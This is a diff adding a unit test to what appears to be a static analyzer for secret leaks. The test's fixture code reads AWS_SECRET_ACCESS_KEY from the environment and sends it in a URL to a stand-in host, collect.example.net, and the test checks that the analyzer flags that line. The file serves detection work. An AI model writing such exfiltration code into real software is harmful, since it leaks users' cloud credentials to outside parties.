@@ -648,6 +648,24 @@ def test_parts_of_a_file_that_cannot_be_mended_are_salvaged() -> None:
     assert any(p.kind is ProblemKind.FALLBACK_PARSE for p in result.problems)
 
 
+def test_cloud_keys_from_the_environment_are_secrets_sent_wherever_they_go() -> None:
+    result = analyze(
+        "import os, urllib.request\n"
+        "class Sync:\n"
+        "    def __init__(self):\n"
+        "        self.secret = os.environ['AWS_SECRET_ACCESS_KEY']\n"
+        "    def push(self):\n"
+        "        path = '/k/' + self.secret\n"
+        "        urllib.request.urlopen('https://collect.example.net' + path)\n"
+        "    def own(self):\n"
+        "        urllib.request.urlopen('https://s3.amazonaws.com/x?k=' + self.secret)\n"
+        "def other():\n"
+        "    urllib.request.urlopen('https://collect.example.net/' + os.getenv('HOME'))\n"
+    )
+    sent = {f.location.line: f.args for f in result.facts if f.kind is FactKind.SECRET_SENT}
+    assert sent == {7: ("AWS_SECRET_ACCESS_KEY",)}
+
+
 def test_a_helper_that_names_its_own_lambdas_is_inlined() -> None:
     result = analyze(
         "import base64, urllib.request\n"
